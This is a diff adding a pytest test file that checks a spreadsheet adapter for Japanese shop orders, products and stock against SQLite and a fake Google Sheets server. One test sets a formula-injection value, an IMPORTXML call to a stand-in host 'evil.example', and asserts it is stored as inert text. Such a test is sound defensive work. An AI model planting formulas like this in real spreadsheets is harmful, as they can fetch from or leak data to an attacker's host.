@@ -1,0 +1,178 @@
+"""One contract, every adapter: the same tests run on SQLite and on Google Sheets (via the fake).
+
+The Google adapter goes through real gspread and google-auth over HTTP to tests/fakes/sheets_api.py.
+"""
+
+from __future__ import annotations
+
+from datetime import datetime
+
+import pytest
+
+from sheets_schema.book import ensure_tabs, read_tables
+from sheets_schema.cells import JST
+from sheets_schema.changes import WriteJob
+from sheets_schema.errors import HeaderError, InvalidRowError
+from sheets_schema.tabs import ORDERS, PRODUCTS, STOCK, SYSTEM_STATE, TABS
+
+NOW = datetime(2026, 11, 30, 14, 5, tzinfo=JST)
+FORMULA = '=IMPORTXML("http://evil.example/x","//a")'
+
+
+def order(number: str, **values: object) -> dict[str, object]:
+    row: dict[str, object] = {
+        "モール": "楽天",
+        "注文番号": number,
+        "注文日時": NOW,
+        "ステータス": "新規",
+        "購入者名": "山田 太郎",
+        "合計金額": 3300,
+    }
+    row.update(values)
+    return row
+
+
+def stock_rows(harness, rows: list[list[object]], header: list[str] | None = None) -> None:
+    harness.staff_put(STOCK.title, [header or list(STOCK.headers), *rows])
+
+
+def test_a_new_workbook_gets_every_tab_with_its_header(harness) -> None:
+    workbook = harness.workbook
+    ours = [s.title for s in TABS]
+    assert [t for t in workbook.tab_titles() if t in ours] == ours  # a staff tab like シート1 may stay
+    tables = read_tables(workbook)
+    for spec in TABS:
+        assert tables[spec.title].grid.header == list(spec.headers)
+        assert tables[spec.title].writable
+    assert workbook.hidden_titles() == {SYSTEM_STATE.title}
+    assert ensure_tabs(harness.fresh_workbook()) == []
+
+
+def test_formula_looking_mall_data_stays_text(harness) -> None:
+    tables = read_tables(harness.workbook)
+    job = WriteJob()
+    job.append(
+        tables[ORDERS.title], [order("1001", 購入者名=FORMULA, 住所="@SUM(A1)", 備考="+81 90-1234-5678")]
+    )
+    harness.workbook.write(job)
+
+    tables = read_tables(harness.fresh_workbook())
+    job = WriteJob()
+    job.set(tables[ORDERS.title], 2, {"送付先氏名": "=1+1", "支払方法": "-2"})
+    harness.workbook.write(job)
+
+    (record,) = read_tables(harness.fresh_workbook())[ORDERS.title].records
+    got = record.value
+    assert (got.buyer_name, got.address, got.note) == (FORMULA, "@SUM(A1)", "+81 90-1234-5678")
+    assert (got.recipient_name, got.payment_method) == ("=1+1", "-2")
+    if harness.kind == "google":
+        column = ORDERS.headers.index("購入者名") + 1
+        stored = harness.server.cell(harness.key, ORDERS.title, 2, column)
+        assert (stored.value, stored.is_formula) == (FORMULA, False)
+
+
+def test_identifiers_keep_leading_zeros_and_amounts_stay_numbers(harness) -> None:
+    tables = read_tables(harness.workbook)
+    job = WriteJob()
+    job.append(
+        tables[PRODUCTS.title],
+        [{"SKU": "00123", "商品名": "手ぬぐい", "販売価格": 1980, "JANコード": "0490123456789"}],
+    )
+    job.append(tables[ORDERS.title], [order("000777", 郵便番号="0600001", 電話番号="0312345678")])
+    harness.workbook.write(job)
+
+    tables = read_tables(harness.fresh_workbook())
+    product = tables[PRODUCTS.title].records[0].value
+    placed = tables[ORDERS.title].records[0].value
+    assert (product.sku, product.jan, product.price) == ("00123", "0490123456789", 1980)
+    assert (placed.order_number, placed.postcode, placed.phone) == ("000777", "0600001", "0312345678")
+    assert placed.ordered_at == NOW
+    if harness.kind == "google":
+        price = harness.server.cell(harness.key, PRODUCTS.title, 2, PRODUCTS.headers.index("販売価格") + 1)
+        sku = harness.server.cell(harness.key, PRODUCTS.title, 2, 1)
+        assert (price.value, sku.value) == (1980, "00123")  # a number staff can SUM, and text
+
+
+def test_staff_columns_and_column_order_survive_every_write(harness) -> None:
+    header = ["棚番", "安全在庫", "SKU", "更新日時", "実在庫", "販売可能数", "引当数", "担当メモ"]
+    stock_rows(
+        harness,
+        [["A-01", 2, "TWL-1", "", 10, 8, 0, "月曜に補充"], ["B-07", 1, "TWL-2", "", 3, 2, 0, ""]],
+        header=header,
+    )
+    tables = read_tables(harness.workbook)
+    stock = tables[STOCK.title]
+    assert [r.value.safety_stock for r in stock.records] == [2, 1]
+    job = WriteJob()
+    job.set(stock, 2, {"引当数": 4, "販売可能数": 4, "更新日時": NOW})
+    job.append(stock, [{"SKU": "TWL-3", "実在庫": 5, "引当数": 0, "安全在庫": 0, "販売可能数": 5}])
+    harness.workbook.write(job)
+
+    assert harness.stored(STOCK.title) == [
+        header,
+        ["A-01", "2", "TWL-1", "2026-11-30 14:05:00", "10", "4", "4", "月曜に補充"],
+        ["B-07", "1", "TWL-2", "", "3", "2", "0"],
+        ["", "0", "TWL-3", "", "5", "5", "0"],
+    ]
+
+
+def test_a_missing_required_header_blocks_writes_to_that_tab_only(harness) -> None:
+    renamed = ["SKU", "実在庫", "引当数", "安全在庫数", "販売可能数", "更新日時"]
+    stock_rows(harness, [["TWL-1", 10, 0, 2, 8, ""]], header=renamed)
+    before = harness.stored(STOCK.title)
+    tables = read_tables(harness.workbook)
+    stock = tables[STOCK.title]
+    assert stock.header_problems == [
+        "「在庫」シートの1行目に「安全在庫」列がありません。列名を変えた場合は元に戻してください（列は見出しの名前で探しています）"
+    ]
+    job = WriteJob()
+    with pytest.raises(HeaderError, match="「在庫」.*「安全在庫」"):
+        job.set(stock, 2, {"引当数": 1})
+    with pytest.raises(HeaderError, match="「安全在庫」"):
+        job.append(stock, [{"SKU": "X"}])
+    job.append(tables[ORDERS.title], [order("2001")])  # other tabs are unaffected
+    harness.workbook.write(job)
+    assert harness.stored(STOCK.title) == before
+    assert len(read_tables(harness.workbook)[ORDERS.title].records) == 1
+
+
+def test_rows_with_errors_are_reported_and_never_overwritten(harness) -> None:
+    stock_rows(harness, [["TWL-1", 10, 0, 2, 8], [], ["TWL-2", "たくさん", 0, 1, 0]])
+    stock = read_tables(harness.workbook)[STOCK.title]
+    assert [(e.row, e.column, e.value) for e in stock.errors] == [(4, "実在庫", "たくさん")]
+    assert [r.row for r in stock.records] == [2]
+    job = WriteJob()
+    with pytest.raises(InvalidRowError, match="4行目"):
+        job.set(stock, 4, {"引当数": 1})
+    job.set(stock, 2, {"引当数": 1})
+    harness.workbook.write(job)
+    stored = harness.stored(STOCK.title)
+    assert stored[3] == ["TWL-2", "たくさん", "0", "1", "0"]
+    assert stored[1][2] == "1"
+
+
+def test_appends_land_after_the_last_row_in_order(harness) -> None:
+    tables = read_tables(harness.workbook)
+    for batch in (["1", "2"], ["3"]):
+        job = WriteJob()
+        job.append(tables[ORDERS.title], [order(n) for n in batch])
+        harness.workbook.write(job)
+        tables = read_tables(harness.workbook)
+    assert [(r.row, r.value.order_number) for r in tables[ORDERS.title].records] == [
+        (2, "1"),
+        (3, "2"),
+        (4, "3"),
+    ]
+
+
+def test_reading_a_missing_tab_reports_it_and_blocks_writes(harness) -> None:
+    tables = read_tables(harness.workbook, [*TABS[:1], _spec_named("存在しないタブ")])
+    missing = tables["存在しないタブ"]
+    assert not missing.exists and not missing.writable
+    assert missing.header_problems == ["「存在しないタブ」シートがありません"]
+
+
+def _spec_named(title: str):
+    from dataclasses import replace
+
+    return replace(STOCK, title=title)
